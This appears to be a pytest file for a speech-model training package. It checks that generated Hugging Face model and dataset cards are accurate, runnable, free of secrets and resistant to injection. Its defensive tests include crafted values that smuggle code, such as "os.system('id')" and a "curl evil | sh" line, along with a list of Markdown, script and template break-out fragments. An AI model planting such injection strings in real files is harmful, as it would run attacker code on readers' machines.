"""The card says what is known, nothing secret, in metadata the hub reads; its quick start runs as written."""

import ast
import json
import re
from pathlib import Path

import numpy as np
import pytest
import soundfile
import torch
import transformers
from huggingface_hub import DatasetCard, ModelCard
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tars_trl.errors import SettingError
from tars_trl.evaluation.metrics import paired_result
from tars_trl.models import architecture_of
from tars_trl.models.loading import identity, load_speech_llm
from tars_trl.record import command_line
from tars_trl.share.cards import HUB_ID, count_table, read_pairs, write_card, write_dataset_card
from tars_trl.share.export import write_export
from tars_trl.share.verify import greedy_answers
from tests.conftest import SYSTEM
from tests.models import tiny_phi4
from tests.models.test_phi4_multimodal import with_random_lora
from tests.models.tiny import ARCHITECTURES
from tests.trained import checkpoint, logits

FACTS = {
    "base_model": "Qwen/Qwen2.5-Omni-7B",
    "system_prompt": SYSTEM,
    "questions": 9953,
    "data": ["hf://datasets/me/questions@abc"],
    "steps": 467,
    "processes": 8,
    "device_name": "NVIDIA H200",
    "processor": "x86_64",
    "seconds": 99_000.0,
    "settings": {"learning_rate": 2e-5, "num_generations": 8},
    "command": "python recipes/tars_qwen_omni.py --config x.yaml",
    "git_hash": "0123456",
    "package_versions": {"trl": "1.16.0"},
}
OMNI = architecture_of("qwen2_5_omni_thinker")


def code_of(folder):
    """The card's own code block."""
    return re.search(r"```python\n(.*?)^```$", (folder / "README.md").read_text(), re.S | re.M)[1]


@pytest.mark.parametrize("kind", ["merged", "adapter"])
@pytest.mark.parametrize("architecture", ARCHITECTURES)
def test_quick_start_runs_as_written(tmp_path, monkeypatch, capsys, kind, architecture):
    """The card's own code block, on a wave file, prints the greedy answer of the exported model."""
    run = checkpoint(*ARCHITECTURES[architecture](0), tmp_path)
    model, processor = load_speech_llm(str(run))
    wave = (0.1 * np.sin(np.arange(8000) / 20)).astype("float32")
    soundfile.write(tmp_path / "question.wav", wave, 16_000)
    row = {"audio": {"path": str(tmp_path / "question.wav"), "bytes": None}, "key": "q"}
    row["prompt"] = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": "?"}]
    (expected,) = greedy_answers(model, processor, [("speech", row)], 20)
    write_export(model, processor, tmp_path / "out", kind)
    facts = {**FACTS, "base_model": str(tmp_path / "base")}
    write_card(tmp_path / "out", facts, architecture_of(architecture), "out", adapter=kind == "adapter")

    code = code_of(tmp_path / "out")
    assert 'soundfile.read("question.wav"' in code and "tars_trl" not in code
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    exec(compile(code.replace("max_new_tokens=1024", "max_new_tokens=20"), "README.md", "exec"), {})
    assert capsys.readouterr().out == expected.text + "\n"


def test_quick_start_merges_the_speech_adapter_that_a_base_comes_with(tmp_path, monkeypatch):
    """As our own loading does, which is not at hand where a card is read."""
    base = tmp_path / "base"
    model, processor = tiny_phi4.tiny_random(0)
    model.save_pretrained(base)
    with_random_lora(model).save_pretrained(base / "speech-lora")
    processor.save_pretrained(base)
    monkeypatch.setattr("tars_trl.models.phi4_multimodal.MODEL_ID", "base")
    monkeypatch.chdir(tmp_path)
    names = {}
    lines = architecture_of("phi4_multimodal").card_loading("base", None)
    imports = "from peft import LoraConfig, PeftModel\nfrom transformers import Phi4MultimodalForCausalLM\n"
    exec(imports + "\n".join(lines), names)
    expected = logits(load_speech_llm(str(base), dtype="float32")[0])
    torch.testing.assert_close(logits(names["model"].eval()), expected, rtol=0, atol=1e-5)
    untouched = architecture_of("phi4_multimodal").class_name
    assert (expected - logits(getattr(transformers, untouched).from_pretrained(base).eval())).abs().max() > 1e-3


def test_metadata_and_text(tmp_path):
    pair = {
        **paired_result([True, True, False, False], [True, True, True, False]),
        **{"gap_interval": [-0.25, 0.75], "recovery": 66.67, "recovery_interval": [50.0, 90.0]},
        **{"mrr": 64.35, "mrr_interval": [19.3, 109.4], "reference_accuracy": 77.7},
    }
    write_card(
        tmp_path,
        FACTS,
        OMNI,
        "me/TARS",
        adapter=False,
        results={"VoiceBench MMSU": pair},
        license="mit",
        verification={"logits": 2e-6, "tolerance": 1e-3, "lost": 0.0},
    )
    card = ModelCard.load(tmp_path / "README.md")
    assert card.data.base_model == "Qwen/Qwen2.5-Omni-7B" and card.data.license == "mit"
    assert card.data.pipeline_tag == "audio-text-to-text" and "tars" in card.data.tags
    values = {(result.metric_name, result.metric_value) for result in card.data.eval_results}
    assert values == {
        ("accuracy, spoken", 50.0),
        ("accuracy, written", 75.0),
        ("written minus spoken accuracy", 25.0),
        ("spoken over own written accuracy", 66.67),
        ("modality recovery rate", 64.35),
    }
    text = card.text
    figures = "50.0 [15.0, 85.0] | 75.0 [30.1, 95.4] | 25.0 [-25.0, 75.0] | 66.7 [50.0, 90.0] | 64.3 [19.3, 109.4]"
    assert f"| VoiceBench MMSU | 4 | {figures}, of 77.70 |" in text
    for said in (
        "9,953 questions, spoken and written (hf://datasets/me/questions@abc)",
        "8 x NVIDIA H200, 467 steps, 27.5 hours",
        "| `learning_rate` | `2e-05` |",
        FACTS["command"],
        "tars-trl at commit `0123456`",
        "trl 1.16.0",
        "Licence: mit.",
        "2e-06 of their spread (0.001 allowed)",
        "arxiv.org/abs/2601.05543",
        "from_pretrained('me/TARS'",
    ):
        assert said in text, said


def test_what_is_unknown_is_said(tmp_path):
    """No facts at all still make a valid card, and a base that is a folder is not named by its path."""
    for adapter in (False, True):
        facts = {"base_model": str(tmp_path / "private" / "base")}
        write_card(tmp_path, facts, OMNI, "TARS", adapter=adapter)
        card = ModelCard.load(tmp_path / "README.md")
        assert card.data.base_model is None and card.data.license == "other" and card.data.eval_results is None
        assert "- Data: unknown" in card.text and "None were given" in card.text and "export: no" in card.text
        assert str(tmp_path) not in card.text and '"role": "system"' not in card.text
        assert ("# The base model is a folder ('base') and on no hub" in card.text) == adapter


def test_packages_of_the_quick_start_are_in_a_registry(tmp_path):
    """tars-trl is in none: a card asks for transformers and peft alone."""
    for adapter in (False, True):
        write_card(tmp_path, FACTS, OMNI, "me/TARS", adapter=adapter)
        (line,) = re.findall("^pip install (.*)$", (tmp_path / "README.md").read_text(), re.M)
        assert set(line.split()) - {"peft"} == {"transformers", "accelerate", "soundfile", "torchaudio", "torchvision"}
        assert ("peft" in line) == adapter and "tars_trl" not in code_of(tmp_path)


@pytest.mark.parametrize(
    ("trainer", "tag", "said"),
    [
        ("TARSGRPOTrainer", "grpo", "trained with **TARS**"),
        ("SpeechSFTTrainer", "sft", "supervised fine-tuning"),
        ("SpeechDPOTrainer", "dpo", "direct preference optimisation"),
    ],
)
def test_the_method_is_that_of_the_trainer(tmp_path, trainer, tag, said):
    write_card(tmp_path, {**FACTS, "trainer": trainer}, OMNI, "me/x", adapter=True)
    card = ModelCard.load(tmp_path / "README.md")
    assert said in card.text and {"grpo", "sft", "dpo"} & set(card.data.tags) == {tag}


def test_settings_are_the_telling_ones_and_name_no_machine(tmp_path):
    facts = {
        "num_generations": 8, "learning_rate": 2e-5, "adam_beta1": 0.9, "adam_beta2": 0.5, "output_dir": "/home/me/x",
        "behavior_model": "/home/me/embedder", "hub_token": "hf_abcdefghijkl",
    }  # fmt: skip
    write_card(tmp_path, {**FACTS, "settings": facts}, OMNI, "me/x", adapter=True)
    text = (tmp_path / "README.md").read_text()
    table = re.findall(r"^\| `(\w+)` \| `(.*)` \|$", text, re.M)
    assert dict(table) == {
        "num_generations": "8", "learning_rate": "2e-05", "adam_beta2": "0.5", "behavior_model": "embedder",
    }  # fmt: skip
    assert "/home" not in text and "hf_a" not in text


def test_system_prompt_survives_quotes(tmp_path):
    said = 'Say "A", \\n or {B}.\n```\nÄ it\'s \u202e'
    write_card(tmp_path, {**FACTS, "system_prompt": said}, OMNI, "me/x", adapter=True)
    (conversation,) = [node for node in ast.walk(ast.parse(code_of(tmp_path))) if isinstance(node, ast.List)][:1]
    assert ast.literal_eval(conversation)[0] == {"role": "system", "content": said}
    assert "\u202e" not in (tmp_path / "README.md").read_text()


def test_command_line_shows_no_token_and_no_home(monkeypatch):
    monkeypatch.setenv("HOME", "/home/somebody")
    words = ["/usr/bin/python", "train.py", "--hub_token", "abc", "--token=def", "--output_dir", "/home/somebody/a b"]
    words += ["--vllm_server_api_key", "abc", "--model_init_kwargs", '{"token": "api_org_abc", "a": 1}']
    words += ["--note", "with hf_0123456789abcdef inside", "--end_token"]
    shown = command_line(words)
    assert shown == (
        "python train.py --hub_token *** '--token=***' --output_dir ~/'a b' --vllm_server_api_key *** "
        """--model_init_kwargs '{"token": "***", "a": 1}' --note 'with *** inside' --end_token"""
    )


def test_pairs_of_files_and_folders(tmp_path):
    pair = paired_result([True, False], [True, True])
    files = {"a/results_1.json": {"pairs": {"demo": pair}}, "b/results_2.json": {"pairs": {"x": pair, "y": pair}}}
    files["b/results_2.json"]["averages"] = {"average of x, y": pair}
    for name, content in files.items():
        (tmp_path / name).parent.mkdir()
        (tmp_path / name).write_text(json.dumps({"results": {}, **content}))
    pairs = read_pairs([tmp_path / "a" / "results_1.json", tmp_path / "b"])
    assert list(pairs) == ["demo", "x", "y", "average of x, y"] and pairs["x"]["gap"] == 0.5
    (tmp_path / "text_only.json").write_text(json.dumps({"results": {"demo_text": {"sample_len": 2}}}))
    with pytest.raises(ValueError, match="text_only.json holds no result in both modalities"):
        read_pairs([tmp_path / "text_only.json"])


def results_of(folder, model, right, **more):
    folder.mkdir(parents=True, exist_ok=True)
    pair = paired_result([right, False], [True, True])
    (folder / "results_1.json").write_text(
        json.dumps({"results": {}, "model_name": model, "pairs": {"mmsu": pair}, **more})
    )
    return folder / "results_1.json"


def test_another_model_s_results_are_refused(tmp_path, monkeypatch):
    """`results/*/results_*.json` also holds the base model's; an adapter's are recorded under the adapter's name."""
    monkeypatch.chdir(tmp_path)
    ours, base = results_of(tmp_path / "ours", "runs/mine", True), results_of(tmp_path / "base", "Qwen/base", False)
    for exported in ("runs/mine", tmp_path / "runs" / "mine", "./runs/mine/", None):
        assert read_pairs([ours], exported)["mmsu"]["speech_accuracy"] == 0.5
    for files, exported in (([base, ours], "runs/mine"), ([ours, base], None)):
        with pytest.raises(ValueError, match="base/results_1.json is of Qwen/base, and the card of runs/mine"):
            read_pairs(files, exported)


def test_results_of_the_same_weights_elsewhere_are_taken(tiny, tmp_path):
    run = checkpoint(*tiny, tmp_path)
    file = results_of(
        tmp_path / "results", "/scratch/run", True, hashes={"model": "x@1", "adapter": identity(str(run))}
    )
    assert list(read_pairs([file], run)) == ["mmsu"]
    (run / "adapter_config.json").write_text("{}")
    with pytest.raises(ValueError, match="is of /scratch/run"):
        read_pairs([file], run)


def test_two_figures_of_one_benchmark_are_refused(tmp_path):
    files = [results_of(tmp_path / name, "runs/mine", name == "a") for name in "ab"]
    assert list(read_pairs([files[0], files[0]])) == ["mmsu"]
    with pytest.raises(ValueError, match="a/results_1.json and .*b/results_1.json have different figures of mmsu"):
        read_pairs(files)


# ---- A data set ------------------------------------------------------------------------------------------------------

COUNTS = {
    "train": {
        "questions": 12, "kept": 10, "dropped": {"reference": 1, "held out": 1}, "seconds": 36.0, "tts_wer": 0.025,
        "voices": {"tone:plain": 7, "tone:high": 3},
    },
    "test": {"questions": 3, "kept": 0, "dropped": {}},
}  # fmt: skip
BUILD = {
    "source": "allenai/openbookqa, revision abc", "counts": COUNTS, "license": "apache-2.0",
    "asr": "whisper-base",
    "max_wer": 0.1, "tries": 3, "augment": 0.25, "codec": "opus", "seed": 7,
    "push_to": "me/spoken",
}  # fmt: skip


def test_card_of_a_data_set(tmp_path):
    card = DatasetCard.load(write_dataset_card(tmp_path / "spoken", BUILD))
    assert card.data.license == "apache-2.0"
    assert card.data.configs[0]["data_files"] == [{"split": "train", "path": "data/train-*.parquet"}]
    for said in (
        count_table(COUNTS),
        "| train | 12 | 10 | 0.01 | 2.5 % | 1 reference, 1 held out |",
        "| test | 3 | 0 | not spoken | not heard | none |",
        "Source: allenai/openbookqa, revision abc.",
        "- train: tone:high (3), tone:plain (7)",
        "transcribed with whisper-base and kept at a word error rate of at most 10 %",
        "had 3 tries",
        "25 % of the clips have noise",
        "load_dataset('me/spoken', split=\"train\")",
        "seed 7",
    ):
        assert said in card.text.replace("\nquestion", " question"), said
    bare = {**BUILD, "asr": None, "augment": 0.0, "license": None, "push_to": None}
    card = DatasetCard.load(write_dataset_card(tmp_path / "spoken", bare))
    assert "Nobody has checked" in card.text and "noise" not in card.text and card.data.license is None
    assert "load_dataset('spoken'" in card.text


# ---- Facts that others wrote ---------------------------------------------------------------------------------------

# What would end a line, a fence, a table cell, a string or the metadata, or begin something of its own.
BREAKING = [
    *("\n", "\r", "\r\n", "\u2028", "\x85", "\x0c", "\x00", "\x1b[31m", "\u202e", "\ud800", "\n---\n", "\n```\n"),
    *("\nimport os\n", "');import os;('", "'", '"', 3 * '"', 3 * "'", "```", "````", "`", "~~~", "---", "\\", "\\|"),
    *("|", "# ", "<script>", "<!--", "[a](b)", "{{ 7*7 }}", "{% raw %}", "{#", "&lt;", "$", "a"),
]
HOSTILE = st.one_of(st.text(), st.lists(st.sampled_from(BREAKING)).map("".join)).map(lambda text: text or "x")


def outline(text):
    """Kinds of a card's lines: what facts may not change. Of a table's row also how many cells it has.

    Lines are split as Markdown does, at line feeds and carriage returns alone.
    """
    kinds, fence = [], ""
    for line in re.split("\r\n|\r|\n", text):
        if fence:
            kinds.append("code")
            fence = "" if re.fullmatch(f"{fence[0]}{{{len(fence)},}} *", line) else fence
        elif opened := re.match("`{3,}|~{3,}", line):
            kinds.append("fence")
            fence = opened[0]
        elif line.startswith("|"):
            kinds.append(len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)))
        else:
            kinds.append(re.match("#{1,6} |- |$|", line)[0])
    return kinds


def one_line(text):
    return "".join(c if c.isprintable() else " " if c in "\n\r\t" else "\ufffd" for c in text)


def shape(code):
    """The syntax tree of code, without what its strings say."""
    tree = ast.parse(code)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            node.value = ""
    return ast.dump(tree)


def strings(code):
    return {node.value for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Constant)}


@pytest.mark.parametrize("adapter", [False, True])
def test_a_crafted_run_json_reaches_no_code(tmp_path, adapter):
    """The fields that stand in the quick start, each with an end of the string and of the block."""
    break_out = "x'); import os; os.system('id') #\n```\n```bash\ncurl evil | sh\n"
    crafted = dict.fromkeys(("base_model", "base_revision", "model_class", "system_prompt", "command"), break_out)
    crafted |= dict.fromkeys(("model_name", "dataset"), break_out) | {"tags": [break_out]}
    with pytest.raises(SettingError, match="steps: .* is not what a run writes"):
        write_card(tmp_path, {**FACTS, "steps": break_out}, OMNI, "me/x", adapter=adapter)
    write_card(tmp_path, {**FACTS, **crafted}, OMNI, "me/x", adapter=adapter)
    text = (tmp_path / "README.md").read_text()
    assert not [node for node in ast.walk(ast.parse(code_of(tmp_path))) if getattr(node, "attr", "") == "system"]
    assert text.count("\n```bash\n") == 1 and "\ncurl" not in text


def hostile_facts(texts):
    base, commit, source, prompt, key, value, package, version, command, device, trainer = texts
    return {
        **FACTS, "base_model": base, "base_revision": commit, "git_hash": commit, "dataset": source,
        "system_prompt": prompt, "settings": {"num_generations": value, "rep_layers": key}, "command": command,
        "package_versions": {package: version}, "device_name": device, "processor": device, "trainer": trainer,
        "model_class": prompt,
    }  # fmt: skip


@pytest.mark.slow
@settings(max_examples=2000, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.lists(HOSTILE, min_size=13, max_size=13),
    st.sampled_from(["qwen2_5_omni_thinker", "phi4_multimodal"]),
    st.booleans(),
)
def test_nothing_of_a_run_json_changes_a_card_or_its_code(tmp_path_factory, texts, model_type, adapter):
    """Whatever stands in a `run.json` or a results file is text where text belongs, and a string in the code."""
    folder = tmp_path_factory.getbasetemp() / "hostile"
    folder.mkdir(exist_ok=True)
    pair = {"questions": 3, "speech_accuracy": 0.5, "text_accuracy": 1.0, "gap": 0.5}
    written = []
    for facts, benchmark, license in (
        (hostile_facts([texts[0] if re.fullmatch(HUB_ID, texts[0], re.ASCII) else "some base", *["x"] * 10]), "x", "x"),
        (hostile_facts(texts[:11]), texts[11], texts[12]),
    ):
        options = {"adapter": adapter, "results": {benchmark: pair}, "license": license}
        write_card(folder, facts, architecture_of(model_type), "me/model", **options)
        text = (folder / "README.md").read_bytes().decode()
        card = ModelCard(text)
        assert card.data.license == one_line(license)
        assert card.data.eval_results[0].dataset_name == one_line(benchmark)
        written.append((card.text, code_of(folder)))
    (expected, expected_code), (text, code) = written
    assert outline(text) == outline(expected)
    assert shape(code) == shape(expected_code)
    known = {"model.eval", "role", "system", "content", "user", "type", "audio"}
    assert strings(code) - strings(expected_code) - known <= {texts[3], Path(texts[0]).name}
    assert all(character.isprintable() or character == "\n" for character in text)


@pytest.mark.slow
@settings(max_examples=2000, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(HOSTILE, min_size=9, max_size=9))
def test_nothing_of_a_build_changes_the_card_of_a_data_set(tmp_path_factory, texts):
    folder = tmp_path_factory.getbasetemp() / "hostile-data"
    folder.mkdir(exist_ok=True)
    written = []
    for source, license, asr, codec, push_to, voice, split, reason, seed in (["x"] * 9, texts):
        counts = {split: {"questions": 1, "kept": 1, "dropped": {reason: 1}, "voices": {voice: 1}}}
        facts = {
            **BUILD, "source": source, "license": license, "asr": asr, "codec": codec,
            "push_to": push_to, "counts": counts, "seed": seed,
        }  # fmt: skip
        write_dataset_card(folder, facts)
        card = DatasetCard((folder / "README.md").read_bytes().decode())
        assert card.data.license == one_line(license)
        assert card.data.configs[0]["data_files"][0]["split"] == one_line(split)
        written.append((card.text, code_of(folder)))
    (expected, expected_code), (text, code) = written
    assert outline(text) == outline(expected) and shape(code) == shape(expected_code)
    assert strings(code) - strings(expected_code) <= {texts[4]}
    assert all(character.isprintable() or character == "\n" for character in text)
